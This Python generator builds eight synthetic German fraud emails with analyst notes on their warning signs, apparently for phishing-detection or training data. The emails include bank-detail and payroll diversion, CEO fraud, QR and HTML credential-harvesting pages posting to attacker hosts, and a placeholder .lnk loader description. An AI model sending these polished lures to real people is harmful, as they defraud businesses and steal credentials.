"""attack/ 01-08 (German)."""

from .common import *  # noqa: F401,F403

EVIL_DB_IBAN = ck.iban_from_bban("DE", "31070024" + "0642718803")


@msg("attack", "01-de-lieferant-grnbh-bankwechsel.eml")
def a01(rng):
    t = "2026-11-10 10:42:18"
    dt = when(t)
    fake = ("Petra Lang", "p.lang@lieferant-grnbh.de")
    letter = K.letter(
        rng, dt=dt, org="Lieferant GmbH", org_lines=LIEF_LINES, color=(0.05, 0.32, 0.55),
        recipient=EXAMPLE_DE_ADDR, place_date="Krefeld, 9. November 2026",
        title="Übergangsweise Bankverbindung bis zur Freischaltung unseres Kontos bei der Sparkasse Krefeld",
        paras=["Sehr geehrte Damen und Herren,",
               "ergänzend zu unserem Schreiben vom 6. Oktober 2026 teilen wir Ihnen mit, dass sich die Freischaltung unseres "
               "neuen Geschäftskontos bei der Sparkasse Krefeld wegen der noch laufenden Legitimationsprüfung verzögert. "
               "Unser bisheriges Konto bei der Volksbank Krefeld eG nimmt seit dem 1. November 2026 keine Zahlungen mehr an.",
               "Bis auf Weiteres bitten wir Sie, alle fälligen Zahlungen auf unser Zwischenkonto zu leisten:",
               ("box", ["*Zwischenkonto (gültig ab sofort)", "Kontoinhaber: Lieferant GmbH", "Bank: Deutsche Bank AG, Filiale Mönchengladbach",
                        "IBAN: %s" % ck.iban_fmt(EVIL_DB_IBAN), "BIC: DEUTDEDB310"]),
               "Sobald das Konto bei der Sparkasse freigeschaltet ist, informieren wir Sie gesondert. Wir bitten, die Umstellung "
               "vertraulich zu behandeln und Rückfragen ausschließlich an p.lang@lieferant-gmbh.de zu richten."],
        signature=["Mit freundlichen Grüßen", "", "ppa. Petra Lang", "Leitung Finanzbuchhaltung"],
        footer=LIEF_FOOTER, author="Petra Lang", producer="Microsoft: Print To PDF", creator="Microsoft® Word 2016")
    q_ap = B.Quote(S["ap"], [LIEF_PL], "Offene Posten Example Kran & Schwerlast / Kd-Nr. 10472", "2026-11-09 15:47:00",
                   "Sehr geehrte Frau Lang,\n\nanbei unsere OP-Liste zum 31.10.2026 zum Abgleich. Die RE-2026-11873 und RE-2026-11902 "
                   "sind im Zahllauf am 12.11. eingeplant, bitte kurz prüfen, ob bei Ihnen noch weitere Posten offen sind.\n\n"
                   "Mit freundlichen Grüßen\nJürgen Weiß\nKreditorenbuchhaltung\nExample Kran & Schwerlast GmbH")
    text = ("Sehr geehrter Herr Weiß,\n\n"
            "vielen Dank für die OP-Liste, die beiden Rechnungen stimmen mit unserer Aufstellung überein.\n\n"
            "Ergänzend zu unserem Schreiben vom 6. Oktober: Bei der Umstellung auf die Sparkasse Krefeld gibt es leider eine "
            "Verzögerung, das neue Konto ist für eingehende SEPA-Zahlungen noch nicht freigeschaltet (die Legitimationsprüfung "
            "unserer Geschäftsführung läuft noch). Das Volksbank-Konto nimmt seit 1.11. keine Eingänge mehr an.\n\n"
            "Bitte überweisen Sie die RE-2026-11873 (3.912,40 EUR) und RE-2026-11902 (18.306,75 EUR) im Zahllauf am 12.11. "
            "deshalb übergangsweise auf unser Zwischenkonto:\n\n"
            "Lieferant GmbH\nDeutsche Bank AG\nIBAN %s\nBIC DEUTDEDB310\n\n"
            "Die Bestätigung auf unserem Briefpapier finden Sie im Anhang. Unsere Telefonanlage wird bis Freitag auf Cloud-"
            "Telefonie umgestellt und ist nur eingeschränkt erreichbar – bitte bestätigen Sie mir die Änderung daher kurz per "
            "Antwort auf diese E-Mail.\n\n" % ck.iban_fmt(EVIL_DB_IBAN)
            + sig_lief("Petra Lang", "Leitung Finanzbuchhaltung", "21"))
    att = B.ol_attach(letter, "application/pdf", "Bestaetigung_Zwischenkonto_Lieferant_GmbH.pdf", dt)
    body = B.outlook(rng, "de", text, quotes=[q_ap], cs="iso-8859-1", attachments=[att], font="Calibri")
    raw, info = T.compose(rng, profile="m365", t=t, frm=fake, to=[S["ap"]],
                          subject="AW: Offene Posten Example Kran & Schwerlast / Kd-Nr. 10472", body=body,
                          hdr_cs="iso-8859-1", hdr_mode="Q",
                          in_reply_to="%s@EXCH01.corp.example.com" % "".join(rng.choice("0123456789abcdef") for _ in range(32)),
                          opts=dict(domain="lieferant-grnbh.de", lang="de-DE", replies=1))
    return Result(raw, info, "Bank-detail change in an ongoing thread, sent from the look-alike domain lieferant-grnbh.de (rn instead of m) on an attacker-owned Microsoft 365 tenant; PDF 'confirmation' on copied letterhead.",
                  "Look-alike domain (passes SPF/DKIM for itself, no DMARC), reuses the real October letter and a stolen OP-list thread, claims the announced new account is not yet active, redirects two invoices (22,219.15 EUR) to a Deutsche Bank account, discourages phone verification.",
                  phones=["+49 2151 64 39-21", "+49 2151 64 39-99", "+49 2151 64 39 0"])


@msg("attack", "02-de-ceo-vertrauliche-akquisition.eml")
def a02(rng):
    t = "2026-11-19 08:07:33"
    fake = ("Thomas Reinhardt", "thomas.reinhardt@examplegroup-eu.com")
    text = ("Guten Morgen Sabine,\n\n"
            "bist du heute im Büro? Ich brauche deine Unterstützung in einer vertraulichen Angelegenheit.\n\n"
            "Wie du weißt, schauen wir uns seit dem Sommer einen Kranvermieter in den Niederlanden an. Die Verhandlungen sind "
            "jetzt in der finalen Phase (intern \"Projekt Mainkai\"). Die Notarin in Amsterdam benötigt bis heute 15:00 Uhr die "
            "Sicherheitsleistung von 10 % des Kaufpreises, damit die Exklusivität nicht verfällt.\n\n"
            "Bis zur Unterzeichnung gilt eine strikte Vertraulichkeitsvereinbarung mit den Verkäufern, bitte sprich daher mit "
            "niemandem im Haus darüber, auch nicht mit Markus oder Katrin. Herr Dr. Maximilian Hartwig (Kanzlei Hartwig & Collegen, "
            "Frankfurt), der uns bei der Transaktion begleitet, meldet sich gleich bei dir mit den Zahlungsdetails und der "
            "Treuhandvereinbarung.\n\n"
            "Ich sitze den ganzen Tag mit den Banken zusammen und kann nicht telefonieren, bin aber per Mail oder WhatsApp "
            "(+31 6 4827 1953, niederländische Nummer für die Dauer des Projekts) erreichbar.\n\n"
            "Kannst du mir kurz bestätigen, dass du das heute übernehmen kannst?\n\n"
            "Danke dir\nThomas\n\nVon meinem iPhone gesendet")
    html = "<div>%s</div>" % "<br>".join(B.esc(x) for x in text.split("\n"))
    body = M.multi("alternative", [M.text(text, "UTF-8", "quoted-printable", "plain", style="plain"),
                                   M.text("<div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\">%s</div>" % html,
                                          "UTF-8", "quoted-printable", "html", style="plain")],
                   "----=_Part_%d_%d.%d" % (rng.randrange(10 ** 6, 10 ** 7), rng.randrange(10 ** 8, 10 ** 9), rng.randrange(10 ** 12, 10 ** 13)),
                   style="plain")
    raw, info = T.compose(rng, profile="zoho", t=t, frm=fake, to=[S["cfo"]],
                          subject="Vertraulich – Projekt Mainkai", body=body, opts=dict(client_ip="198.51.100.23"))
    return Result(raw, info, "CEO fraud: 'Thomas Reinhardt' from the look-alike examplegroup-eu.com (Zoho Mail) asks the CFO for a confidential escrow payment for a Dutch acquisition; a 'lawyer' will follow.",
                  "Look-alike of examplegroup.eu registered by the attacker, secrecy ('not even Markus or Katrin'), deadline today, unreachable by phone, WhatsApp on a foreign number, external lawyer hand-off: the classic BEC chain.",
                  phones=["+31 6 4827 1953"])


@msg("attack", "03-de-nordwerk-onenote-zahlungsavis.eml")
def a03(rng):
    t = "2026-11-18 13:22:05"
    url = "https://nordwerkanlagenbau-my.sharepoint.com/:o:/g/personal/sandra_wolff_nordwerk-anlagenbau_de/EmX3pQ9vTzBNr2wYk0dF1sAB7u3Lq9WcZ2x5Hn8JtVa0gQ?e=Pq2aBc"
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Guten Tag,<br><br>
anbei erhalten Sie das Zahlungsavis zu unserer Sammelüberweisung vom 17.11.2026 (Valuta 18.11.2026).<br>
Aus Datenschutzgründen stellen wir Avise seit November nur noch über OneDrive bereit.<br><br>
<table cellpadding="0" cellspacing="0" style="border:1px solid #d1d1d1;border-radius:4px;"><tr><td style="padding:10px 14px;">
<img src="https://res.cdn.office.net/files/fabric-cdn-prod_20251008.001/assets/item-types/20/one.png" width="20" height="20" alt="">
&nbsp;<a href="%s" style="color:#0f6cbd;font-weight:600;text-decoration:none;">Zahlungsavis_KW47_Example_Kran.one</a><br>
<span style="font-size:9pt;color:#616161;">Sandra Wolff hat diese Datei für Sie freigegeben</span></td></tr></table><br>
<a href="%s" style="background:#0f6cbd;color:#ffffff;padding:8px 18px;text-decoration:none;border-radius:4px;font-size:11pt;">Dokument öffnen</a><br><br>
Mit freundlichen Grüßen<br><br>
Sandra Wolff<br>Finanzbuchhaltung / Debitoren &amp; Kreditoren<br>
Nordwerk Anlagenbau AG<br>Industriestraße 40 · 45881 Gelsenkirchen<br>Tel. +49 209 3168-244<br>
<span style="font-size:9pt;color:#888888;">Vorstand: Dr. Jens Hollmann (Vors.), Britta Severin · Aufsichtsratsvorsitzender: Wolfgang Terhorst · Amtsgericht Gelsenkirchen HRB 11904</span>
</div></body></html>
""" % (url, url)
    plain = B.html_to_text(html)
    body = M.multi("alternative", [M.text(plain, "utf-8", "quoted-printable", "plain", style="outlook"),
                                   M.text(html, "utf-8", "quoted-printable", "html", style="outlook")],
                   B.b_outlook(rng), style="outlook")
    raw, info = T.compose(rng, profile="m365", t=t, frm=("Sandra Wolff", "sandra.wolff@nordwerk-anlagenbau.de"),
                          to=[("Sandra Wolff", "sandra.wolff@nordwerk-anlagenbau.de")], rcpt=S["cfo"][1],
                          subject="Nordwerk Anlagenbau AG - Zahlungsavis KW 47", body=body,
                          opts=dict(domain="nordwerk-anlagenbau.de", lang="de-DE"))
    return Result(raw, info, "Document-share lure from the hijacked mailbox of a real customer employee: 'payment advice' as a OneNote file in her OneDrive; the notebook carries the link to an adversary-in-the-middle Microsoft login.",
                  "Genuine tenant (SPF/DKIM/DMARC pass), but: sent to the sender herself with all victims in Bcc, unusual 'advice only via OneDrive' claim, OneNote in a personal OneDrive instead of a PDF, received by the CFO who never gets Nordwerk avis; same pattern is being sent to all of Nordwerk's contacts.",
                  phones=["+49 209 3168-244"])


@msg("attack", "04-de-commerzbank-phototan-quishing.eml")
def a04(rng):
    t = "2026-11-24 09:14:51"
    dt = when(t)
    qurl = "https://firmenkunden-cbk.com/photoTAN/aktivierung?mandant=EKS-31847&k=c2FiaW5lLmtvZWhsZXJAZXhhbXBsZS5jb20"
    letter = K.letter(
        rng, dt=dt, org="Commerzbank", org_lines=["Commerzbank AG", "Firmenkunden-Service", "60261 Frankfurt am Main"],
        color=(1.0, 0.8, 0.0), recipient=["Example Kran & Schwerlast GmbH", "z. Hd. Frau Sabine Köhler", "Ruhrorter Hafenweg 12", "47119 Duisburg"],
        place_date="Frankfurt am Main, 24.11.2026", title="Ihr Aktivierungsbrief für das neue photoTAN-Verfahren (Firmenkundenportal)",
        paras=["Sehr geehrte Frau Köhler,",
               "im Rahmen der Umsetzung der europäischen Zahlungsdiensterichtlinie stellen wir zum 1. Dezember 2026 alle "
               "Firmenkundenzugänge auf das neue photoTAN-Verfahren mit Gerätebindung um. Zugänge, die bis zum 27.11.2026 "
               "nicht neu registriert wurden, werden aus Sicherheitsgründen vorübergehend gesperrt; Zahlungsaufträge und "
               "EBICS-Dateien können dann nicht mehr freigegeben werden.",
               "So aktivieren Sie Ihren Zugang:",
               "1. Scannen Sie den nebenstehenden QR-Code mit der Kamera Ihres Smartphones (nicht mit der photoTAN-App).",
               "2. Melden Sie sich mit Ihrer Teilnehmernummer und Ihrer PIN an.",
               "3. Bestätigen Sie die Gerätebindung mit der angezeigten photoTAN.",
               "Ihr persönlicher Aktivierungscode ist 72 Stunden gültig. Bei Fragen erreichen Sie unseren Firmenkunden-Service "
               "unter +49 69 5866 4410 (Mo-Fr 8-18 Uhr)."],
        signature=["Mit freundlichen Grüßen", "Ihre Commerzbank"],
        footer=["Commerzbank Aktiengesellschaft, Frankfurt am Main · Amtsgericht Frankfurt am Main HRB 32000",
                "Vorsitzender des Aufsichtsrates: Jens Weidmann · Vorstand: Bettina Orlopp (Vorsitzende)"],
        qr=qurl, qr_caption="Aktivierungscode - mit der Smartphone-Kamera scannen",
        producer="iText 7.2.5 (AGPL)", creator="Kundenkommunikation", author="Commerzbank AG")
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4;">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#002e3c;">
<tr><td style="background:#ffcc00;height:6px;"></td></tr>
<tr><td style="padding:24px 32px 0 32px;font-size:20px;font-weight:bold;">Commerzbank Firmenkunden</td></tr>
<tr><td style="padding:16px 32px;line-height:21px;">Sehr geehrte Frau Köhler,<br><br>
zum 1. Dezember 2026 stellen wir alle Zugänge zum Firmenkundenportal auf das neue photoTAN-Verfahren mit Gerätebindung um.
Bitte nehmen Sie die Neuregistrierung <b>bis zum 27.11.2026</b> vor, damit Ihre Zahlungsfreigaben ohne Unterbrechung möglich bleiben.<br><br>
Ihren persönlichen Aktivierungsbrief mit QR-Code finden Sie im Anhang dieser Nachricht (PDF). Aus Sicherheitsgründen
enthält diese E-Mail keinen Link.<br><br>
Mit freundlichen Grüßen<br>Ihr Commerzbank Firmenkunden-Service</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#6b7c85;border-top:1px solid #e5e5e5;">Commerzbank AG · Kaiserplatz · 60311 Frankfurt am Main<br>
Diese E-Mail wurde automatisch versendet. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>
</table></td></tr></table></body></html>
"""
    alt = M.multi("alternative", [M.text(B.html_to_text(html), "utf-8", "quoted-printable", "plain", style="plain"),
                                  M.text(html, "utf-8", "quoted-printable", "html", style="plain")],
                  "%s" % "".join(rng.choice("0123456789abcdef") for _ in range(60)), style="plain")
    root = M.multi("mixed", [alt, M.attach(letter, "application/pdf", "Aktivierungsbrief_photoTAN_EKS-31847.pdf", style="plain")],
                   "%s" % "".join(rng.choice("0123456789abcdef") for _ in range(60)), style="plain")
    raw, info = T.compose(rng, profile="sendgrid", t=t, frm=("Commerzbank Firmenkunden", "service@cbk-firmenkundenportal.de"),
                          to=[S["cfo"]], subject="Wichtig: Neuregistrierung photoTAN für Ihr Firmenkundenportal bis 27.11.2026",
                          body=root, opts=dict(domain="cbk-firmenkundenportal.de"))
    return Result(raw, info, "QR-code phishing (quishing) in a PDF 'activation letter' impersonating Commerzbank corporate banking, sent through SendGrid.",
                  "Sender domain cbk-firmenkundenportal.de is not Commerzbank's (DKIM passes only for the look-alike), deadline and lock-out threat, the mail claims to contain no link so the URL hides in a QR code in the PDF that points to firmenkunden-cbk.com with the victim's address base64-encoded.",
                  phones=["+49 69 5866 4410"], qr=[qurl])


@msg("attack", "05-de-vemags-nachforderung-html.eml")
def a05(rng):
    t = "2026-11-24 07:55:12"
    action = "https://vemags-antragsportal.com/auth/bundid/submit.php"
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>VEMAGS - Nachforderung von Unterlagen</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#eef1f4;margin:0}.hd{background:#004b87;color:#fff;padding:14px 24px;font-size:18px}
.box{max-width:460px;margin:40px auto;background:#fff;border:1px solid #c8d1da;padding:28px}label{display:block;font-size:13px;margin-top:14px}
input{width:100%%;padding:8px;border:1px solid #9aa7b4;margin-top:4px}button{margin-top:20px;background:#004b87;color:#fff;border:0;padding:10px 22px}
.small{font-size:11px;color:#5a6570;margin-top:18px}</style></head>
<body><div class="hd">VEMAGS &ndash; Verfahrensmanagement f&uuml;r Gro&szlig;raum- und Schwertransporte</div>
<div class="box"><h3>Nachforderung zu Antrag 2026-NW-0121958-00</h3>
<p>Der Bescheid &uuml;ber die Nachforderung ist gesch&uuml;tzt. Bitte melden Sie sich mit Ihrem VEMAGS-Benutzerkonto bzw. Ihrem
Unternehmenskonto (Mein Unternehmenskonto / BundID) an, um das Dokument anzuzeigen und die fehlenden Unterlagen hochzuladen.</p>
<form method="post" action="%s">
<label>Benutzername oder E-Mail-Adresse<input type="text" name="u" value="oliver.schulte@examplegroup.eu"></label>
<label>Passwort<input type="password" name="p"></label>
<button type="submit">Anmelden und Bescheid anzeigen</button></form>
<p class="small">Frist zur Einreichung: 3 Werktage nach Zugang. Nach Fristablauf wird der Antrag gem&auml;&szlig; Verwaltungsvorschrift zu &sect; 29 StVO abgelehnt.</p>
</div></body></html>
""" % action
    text = ("Sehr geehrte Damen und Herren,\n\n"
            "zu Ihrem Antrag 2026-NW-0121958-00 (Einzelerlaubnis nach § 29 Abs. 3 StVO, Raupenkran-Grundgerät, 96,8 t) hat die "
            "anhörende Behörde eine Nachforderung von Unterlagen gestellt:\n\n"
            "- Achslastberechnung für die Kombination Zugmaschine/Tieflader (Stand 11/2026)\n"
            "- Fahrzeugschein des Nachläufers\n\n"
            "Den Bescheid über die Nachforderung finden Sie im Anhang. Bitte öffnen Sie das Dokument und laden Sie die Unterlagen "
            "nach der Anmeldung innerhalb von 3 Werktagen hoch. Andernfalls wird der Antrag abgelehnt und muss neu gestellt werden.\n\n"
            "Mit freundlichen Grüßen\nIhr VEMAGS-Team\n\nDiese Nachricht wurde automatisch erstellt.")
    root = M.multi("mixed", [M.text(text, "utf-8", "8bit", "plain", style="php"),
                             M.attach(page.encode("utf-8"), "text/html", "Nachforderung_2026-NW-0121958-00.html", style="php")],
                   B.b_php(rng), style="php", preamble="This is a multi-part message in MIME format.")
    raw, info = T.compose(rng, profile="cpanel", t=t, frm=("VEMAGS Antragsmanagement", "vemags@fahrschule-brinkmann.de"),
                          to=[S["permits"]], subject="VEMAGS: Nachforderung von Unterlagen zu Antrag 2026-NW-0121958-00 – Frist 3 Werktage",
                          body=root, hdr_mode="Q",
                          opts=dict(server="s144.webhosting-ruhr.de", server_ip="198.51.100.47", dkim_domain="fahrschule-brinkmann.de",
                                    account="wp-mail@fahrschule-brinkmann.de", local_user="fahrbrin"))
    return Result(raw, info, "Trade-portal credential phishing: fake VEMAGS 'request for documents' with an HTML attachment that shows a VEMAGS/BundID login form posting to vemags-antragsportal.com.",
                  "Sent by PHPMailer from a hacked driving-school WordPress site (envelope and DKIM fahrschule-brinkmann.de), VEMAGS never sends attachments, application number unknown to the company, 3-day threat, HTML file with a password form (no script) pointing to a foreign host.",
                  )


@msg("attack", "06-de-gehaltskonto-aenderung-gmx.eml")
def a06(rng):
    t = "2026-11-20 21:14:40"
    iban = ck.make_iban(rng, "LT", bank="32500")
    text = ("Hallo Monika,\n\n"
            "ich habe meine Bank gewechselt und möchte, dass mein Gehalt ab November schon auf das neue Konto geht. Die neue "
            "Bankverbindung:\n\n"
            "Kontoinhaber: Ralf Becker\n"
            "Bank: Revolut Bank UAB\n"
            "IBAN: %s\n"
            "BIC: REVOLT21\n\n"
            "Kannst du mir kurz bestätigen, wann das erledigt ist? Ich bin die ganze Woche auf der Baustelle in Wesel und komme "
            "nicht ins Büro, deshalb schreibe ich von meiner privaten Adresse. Das Formular reiche ich nach.\n\n"
            "Danke und schönes Wochenende\nRalf\n" % ck.iban_fmt(iban))
    body = M.text(text, "UTF-8", "quoted-printable", "plain", style="tb")
    raw, info = T.compose(rng, profile="gmx", t=t, frm=("Ralf Becker", "ralf.becker1974@gmx.de"), to=[S["hr"]],
                          subject="Änderung Gehaltskonto", body=body, opts=dict(client="web"))
    return Result(raw, info, "Payroll diversion: impostor of the workshop manager asks HR from a GMX address to pay the November salary to a Revolut account.",
                  "Free-mail address not on file (Ralf's known private address is at web.de), new IBAN in the mail body, foreign neobank, timing just before the payroll cut-off, avoids the portal and the signed form.")


@msg("attack", "07-de-lieferant-rechnung-zip-lnk.eml")
def a07(rng):
    t = "2026-11-17 09:34:12"
    pw = "4471"
    lnk = ("[Platzhalter fuer die Analyse - keine ausfuehrbare Datei]\r\n"
           "Windows-Verknuepfung (.lnk) mit PDF-Symbol. Ziel waere: conhost.exe --headless cmd /c ... (ausgeblendet), das ein "
           "Skript von einem WebDAV-Share nachlaedt und eine DLL per rundll32 startet (Loader, z. B. Latrodectus/Lumma).\r\n").encode("utf-8")
    z = C.make_zip([("Rechnung_RE-2026-11988.pdf.lnk", lnk, (2026, 11, 17, 8, 58, 2))], rng, password=pw.encode())
    q = B.Quote(S["proc"], [LIEF_SM], "Angebot Ersatzteile LTM 1100 - Hydraulikpumpe", "2026-09-14 11:05:00",
                "Hallo Herr Maier,\n\nbitte um Angebot für eine Hydraulikpumpe (Verstellpumpe Oberwagen) für unseren LTM 1100-5.2, "
                "Fg.-Nr. 0814 732, inkl. Dichtsatz. Liefertermin wäre wichtig.\n\nViele Grüße\nMarkus Vogel\nEinkauf")
    text = ("Hallo Herr Vogel,\n\n"
            "anbei wie besprochen die Rechnung und die Lieferdokumente zur Hydraulikpumpe. Aus Datenschutzgründen ist das "
            "Archiv verschlüsselt.\n\nKennwort: %s\n\nMit freundlichen Grüßen\nStefan Maier\nLieferant GmbH" % pw)
    plain = text + "\n\n" + B.ol_quote_plain(q, "de")
    root = M.multi("mixed", [M.text(plain, "utf-8", "base64", "plain", style="plain"),
                             M.attach(z, "application/zip", "RE-2026-11988.zip", style="plain")],
                   "=_%s" % "".join(rng.choice("0123456789abcdef") for _ in range(32)), style="plain")
    raw, info = T.compose(rng, profile="postfix_org", t=t, frm=LIEF_SM, to=[S["proc"]],
                          subject="AW: Angebot Ersatzteile LTM 1100 - Hydraulikpumpe", body=root,
                          msgid="%s.%s@lieferant-gmbh.de" % (tz.fmt(when(t), "utc", "%Y%m%d%H%M%S"), "".join(rng.choice("0123456789ABCDEF") for _ in range(8))),
                          in_reply_to="%s@EXCH01.corp.example.com" % "".join(rng.choice("0123456789abcdef") for _ in range(32)),
                          opts=dict(relay="mail.lieferant-gmbh.de", relay_ip="203.0.113.25", domain="lieferant-gmbh.de", selector="mail",
                                    inner=[T.inner_pc("[127.0.0.1]", None, "198.51.100.66", "mail.lieferant-gmbh.de")],
                                    order=["Date", "From", "To", "Subject", "Message-ID", "In-Reply-To", "References", "MIME-Version"]))
    return Result(raw, info, "Thread hijacking from the compromised real mailbox of Lieferant GmbH's sales rep: reply to a two-month-old quotation thread with a password-protected ZIP 'invoice' containing a .pdf.lnk loader.",
                  "Passes SPF/DKIM/DMARC (real relay), but was submitted via SMTP AUTH from a VPS (198.51.100.66, HELO 127.0.0.1), revives an old thread, no Outlook headers unlike Lieferant's real mails, password in the body to defeat scanning, double extension .pdf.lnk inside.",
                  passwords=[pw])


@msg("attack", "08-de-handelsregister-eintragungsrechnung.eml")
def a08(rng):
    t = "2026-11-19 10:03:27"
    dt = when(t)
    iban = ck.make_iban(rng, "PT", bank="0033", branch="0000")
    amount = 1286.95
    ref = "ZUR-2026-448172"
    qrp = K.epc("BCOMPTPL", "ZUR Zentrales Unternehmensregister", iban, amount, "%s HRB 31847" % ref)
    letter = K.letter(
        rng, dt=dt, org="ZUR · Zentrales Unternehmensregister", org_lines=["Register-Service", "Postfach 10 11 43", "10111 Berlin", "service@zur-eintragung.de"],
        color=(0.15, 0.15, 0.15), recipient=["Example Kran & Schwerlast GmbH", "Ruhrorter Hafenweg 12", "47119 Duisburg"],
        place_date="Berlin, 19.11.2026", title="Rechnung Nr. %s – Eintragung Handelsregister" % ref,
        paras=["Registergericht: Amtsgericht Duisburg · Registernummer: HRB 31847 · Bekanntmachung vom 28.10.2026 (Jahresabschluss 2025)",
               ("table", [(260, "Leistung", "left"), (110, "Zeitraum", "left"), (111, "Betrag EUR", "right")],
                [["Eintragung und Veröffentlichung im Zentralen Unternehmensregister (ZUR-Online)", "12/2026 - 11/2027", "1.081,47"],
                 ("b", ["zzgl. 19 % USt.", "", "205,48"]), ("b", ["Zu zahlender Betrag", "", K.money(amount)])]),
               "Bitte überweisen Sie den Betrag innerhalb von 8 Tagen unter Angabe der Rechnungsnummer auf das Konto "
               "IBAN %s, BIC BCOMPTPL. Sie können den nebenstehenden QR-Code mit Ihrer Banking-App scannen." % ck.iban_fmt(iban),
               "Hinweis: Die Eintragung in das ZUR-Online-Verzeichnis ist ein privatwirtschaftliches Angebot und steht in keiner "
               "Verbindung zu amtlichen Registern. Mit der Zahlung kommt ein Vertrag über die Eintragung mit einer Laufzeit von "
               "drei Jahren zustande (jährlich 1.286,95 EUR), der sich jeweils um ein Jahr verlängert, wenn er nicht drei Monate "
               "vor Ablauf gekündigt wird. Es gelten die AGB unter www.zur-eintragung.de."],
        footer=["ZUR Zentrales Unternehmensregister ist eine Marke der Ordo Data Services Lda., Rua Castilho 39, 1250-068 Lisboa, Portugal"],
        qr=qrp, qr_caption="Bequem per GiroCode bezahlen", producer="dompdf 2.0.4 + CPDF", creator="ZUR Billing", author="ZUR")
    html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#222;">
<p>Sehr geehrte Damen und Herren,</p>
<p>im Anhang erhalten Sie die Rechnung <b>%s</b> zur Eintragung Ihres Unternehmens <b>Example Kran &amp; Schwerlast GmbH</b>
(Amtsgericht Duisburg, HRB 31847) nach der Bekanntmachung vom 28.10.2026.</p>
<p>Rechnungsbetrag: <b>%s EUR</b> &ndash; zahlbar innerhalb von 8 Tagen.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Register-Service<br>ZUR &middot; Zentrales Unternehmensregister</p>
<p style="font-size:11px;color:#777;">Sie erhalten diese Nachricht, weil Ihr Unternehmen im Handelsregister eingetragen ist.
<a href="https://zur-eintragung.de/abmelden?e=aW5mb0BleGFtcGxlLmNvbQ">Abmelden</a></p>
</body></html>
""" % (ref, K.money(amount))
    alt = M.multi("alternative", [M.text(B.html_to_text(html), "utf-8", "quoted-printable", "plain", style="plain"),
                                  M.text(html, "utf-8", "quoted-printable", "html", style="plain")], B.b_generic(rng, "sib_"), style="plain")
    root = M.multi("mixed", [alt, M.attach(letter, "application/pdf", "Rechnung_%s.pdf" % ref, style="plain")], B.b_generic(rng, "sib_"), style="plain")
    raw, info = T.compose(rng, profile="brevo", t=t, frm=("ZUR Register-Service", "service@zur-eintragung.de"),
                          to=[("", "info@example.com")], subject="Rechnung %s: Eintragung Handelsregister HRB 31847 - Example Kran & Schwerlast GmbH" % ref,
                          body=root, opts=dict(domain="zur-eintragung.de"))
    return Result(raw, info, "Register scam: invoice-styled offer for an 'entry in the Central Company Register' after the public disclosure notice, with IBAN and GiroCode, sent via Brevo.",
                  "Not an authority; triggered by the public register notice; 'invoice' wording with 8-day due date, Portuguese account, QR code for quick payment; the small print reveals a 3-year private directory contract.",
                  qr=[qrp])
